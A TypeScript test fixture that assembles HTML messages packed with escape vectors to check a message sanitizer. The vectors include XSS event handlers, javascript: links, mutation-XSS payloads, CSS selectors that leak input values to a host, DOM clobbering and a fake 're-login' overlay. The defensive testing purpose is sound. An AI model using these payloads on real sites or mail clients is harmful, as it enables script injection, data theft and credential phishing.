const head = [
  "<script>window.ran='head script';top.ran='head script'</script>",
  '<meta http-equiv="refresh" content="0;url=T/refresh">',
  '<base href="T/" target="_top">',
  '<link rel="stylesheet" href="T/sheet.css"><link rel="prefetch" href="T/prefetch"><link rel="dns-prefetch" href="T/">',
  '<style>@import "T/import.css"; @import url(T/import2.css); @font-face{font-family:f;src:url(T/font.woff)} p{background:url(T/p.png);font-family:f;list-style-image:image-set("T/set.png" 1x)} p{backgr\\6f und:u\\72l(T/escaped.png)}</style>',
];

const body = [
  "<script>window.ran='script';top.ran='script'</script>",
  '<script src="T/script.js"></script>',
  "<img src=x onerror=\"window.ran='onerror';top.ran='onerror'\">",
  '<img src=x onload="top.ran=\'onload\'"><p onclick="top.ran=\'onclick\'" onpointerenter="top.ran=\'hover\'">x</p>',
  '<a href="javascript:top.ran=\'javascript\'">un</a><a href=" java&#10;script:top.ran=\'split\'">deux</a><a href="data:text/html,<script>top.ran=\'data\'</script>">trois</a><a ping="T/ping" href="T/lien">quatre</a>',
  '<p style="background:url(T/style.png)">x</p><p style="background-image:u\\72l(T/escape.png)">x</p><p style="width:expression(alert(1));behavior:url(T/htc)">x</p><p style="--u:url(T/var.png);background:var(--u)">x</p>',
  '<img srcset="T/a.png 1x, T/b.png 2x"><img src="data:image/png;base64,iVBORw0KGgo=" srcset="T/c.png 2x">',
  '<picture><source srcset="T/source.png"><img src="T/picture.png"></picture>',
  '<svg onload="top.ran=\'svg onload\'"><script>top.ran=\'svg script\'</script><image href="T/svg.png" xlink:href="T/svg2.png"/><use href="T/use.svg#x"/><a xlink:href="javascript:top.ran=\'svg link\'"><text>x</text></a><animate onbegin="top.ran=\'svg animate\'" attributeName=x dur=1s /><foreignObject><iframe src="T/foreign"></iframe></foreignObject></svg>',
  '<form action="T/form" method="post" id="f"><input name="numen" autofocus onfocus="top.ran=\'focus\'"><button formaction="T/action">Valider</button></form><input form="f" type="image" src="T/bouton.png">',
  '<meta http-equiv="refresh" content="0;url=T/refresh2"><base href="T/base/"><link rel="stylesheet" href="T/sheet2.css">',
  '<iframe src="T/frame"></iframe><iframe srcdoc="<script>top.ran=\'srcdoc\'</script>"></iframe><frameset><frame src="T/frame2"></frameset>',
  '<object data="T/object"></object><embed src="T/embed"><applet code="T/applet"></applet><portal src="T/portal"></portal>',
  '<video poster="T/poster.png" src="T/video.mp4" autoplay></video><audio src="T/audio.mp3" autoplay></audio><track src="T/track.vtt">',
  '<table background="T/table.png"><tr><td background="T/td.png">x</td></tr></table><body background="T/body.png"><img lowsrc="T/low.png" dynsrc="T/dyn.png">',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:url(T/over.png)">Reconnectez-vous</div>',
  '<img name="getElementById"><form id="attributes"><input name="nodeName"></form><a id="defaultView" name="document"></a>',
  '<style>*{background:url(T/star.png)} @import "T/late.css"; @media screen{p{content:url(T/media.png)}} @namespace "T/ns"; input[value^="a"]{background:url(T/leak)}</style>',
];

/** Each of these takes in what follows it, so that it stands in a message of its own. */
const swallowing = [
  '<svg><style><img src=x onerror="top.ran=\'svg style\'"></style></svg><img src=T/after.png onerror="top.ran=\'after\'">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=T/m.png onerror=top.ran=\'mutation\'&gt;">',
  '<noscript><p title="</noscript><img src=T/n.png onerror=top.ran=\'noscript\'>"></noscript>',
  '<details open ontoggle="top.ran=\'toggle\'"><summary>x</summary></details><marquee onstart="top.ran=\'marquee\'">x</marquee>',
  '<select autofocus onfocus="top.ran=\'select\'"><option><img src=T/o.png onerror="top.ran=\'option\'"></select>',
  "<template><script>top.ran='template'</script></template><xmp><p title=\"</xmp><img src=T/x.png onerror=top.ran='xmp'>\">",
  "<!--><img src=T/c.png onerror=top.ran='comment'>--><![CDATA[><img src=T/d.png onerror=top.ran='cdata'>]]>",
  '<plaintext><img src=T/plain.png>',
];

function pointAt(host: string, html: string): string {
  return html.replaceAll('T/', `${host}/`);
}

/** Known ways out of a message's HTML: to run, to ask `host`, to leave the frame. Whole messages, the first the longest. */
export function listEscapes(host: string): string[] {
  const whole = `<html><head>${head.join('')}</head><body background="T/fond.png"><p>Bonjour à tous.</p>${body.join('\n')}<p>La fin du message.</p></body></html>`;
  return [whole, ...swallowing.map((one) => `<p>Bonjour à tous.</p>${one}`)].map((html) =>
    pointAt(host, html),
  );
}
